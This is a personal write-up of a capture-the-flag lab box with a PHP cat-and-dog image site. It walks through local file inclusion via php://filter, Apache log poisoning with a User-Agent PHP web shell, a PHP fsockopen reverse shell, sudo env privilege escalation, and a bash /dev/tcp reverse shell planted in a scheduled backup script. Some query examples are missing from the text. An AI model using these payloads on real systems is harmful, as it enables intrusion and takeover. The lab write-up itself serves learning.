I made this website for viewing cat and dog images with PHP. If you’re feeling down, come look at some dogs/cats!

This is a medium rated box, and right up front I’ll say that I had to look up some hints for it. Let’s begin.


The page description says that it’s a website for viewing pictures of cats and dogs, so that’s obviously a good place to start. I did run an nmap scan anyway but it’s not really relevant.

The website begins with a query of the form:

Where the view parameter is either dog or cat. Entering anything else provokes a warning about the query needing to be a dog or cat.

I figured this was an LFI challenge (which it is), but I had some trouble getting it to work.

Null bytes? Nope.Basic path traversal wasn’t working, and I found that entering a query like

satisfied the dog/cat filter requirement, but only provoked errors about not being able to include the file - so null bytes actually didn’t work.

After some trial and error, googling and failing, I consulted a guide and it turned out that the required query is something like:

GET /?view=php://filter/read=convert.base64-encode/resource=./dog/../../../../etc/passwd&ext=

which returns a base64 encoded string - useable, but annoying. We can also get the apache2 access log, which I tried to poison. I was able to insert PHP code into the log fileusing netcat, but didn’t manage to get it to execute.

Actually the first file I looked at was the source code for the webpage - index.php. This showed the code used to add the .php extension and from there I figured out how to bypass it (by putting &ext= in the URL).

I had done a little LFI before, but this was a little more complex than the simpler types I had previously seen.

User Agent

So now I had my LFI - but I could only read a single file at a time, and only a limited set of them at that (as www-data). I had to go back to the guide again to learn that using Burp Suite we can put the payload

<?phpsystem($_GET['cmd']);?>

into the User-Agent, and from then on we can execute commands as follows:

GET /?view=php://filter/read=convert.base64-encode/resource=./dog/../../../../var/log/apache2/access&ext=.log&cmd=id

So then I had RCE, which was a big step forward. I hadn’t seen this User-Agent technique before either.


Once we’ve got RCE we can then send this command to get a shell:

GET /?view=php://filter/resource=./dog/../../../../var/log/apache2/access&ext=.log&cmd=php+-r+'$sock%3dfsockopen("",1234)%3bexec("/bin/sh+-i+<%263+>%263+2>%263")%3b'

On the box - or rather, IN the box

On the box we can run linpeas, which shows that:

  1. we’re in a docker container, and2. we can run env as root without a password

That means we can do:

$ sudo env /bin/sh -p

And become root (in the container.) From there, the first 3 flags are easy to obtain (although I think at this point I had two already? I don’t recall).

The last one

The final flag was on the box, and not in the container. Some enumeration revealed a backup folder in /opt along with a shell script running on a frequent schedule. We could replace the contents of the as follows:

echo "#!/bin/bash" >
echo "/bin/bash -c 'bash -i >& /dev/tcp/ 0>&1'" >>

And then it was just a matter of waiting a little for the schedule to run.


This box was a little tougher than I thought it would be andI didn’t do it all on my own. I did give it a pretty good go though,and I definitely learned some things.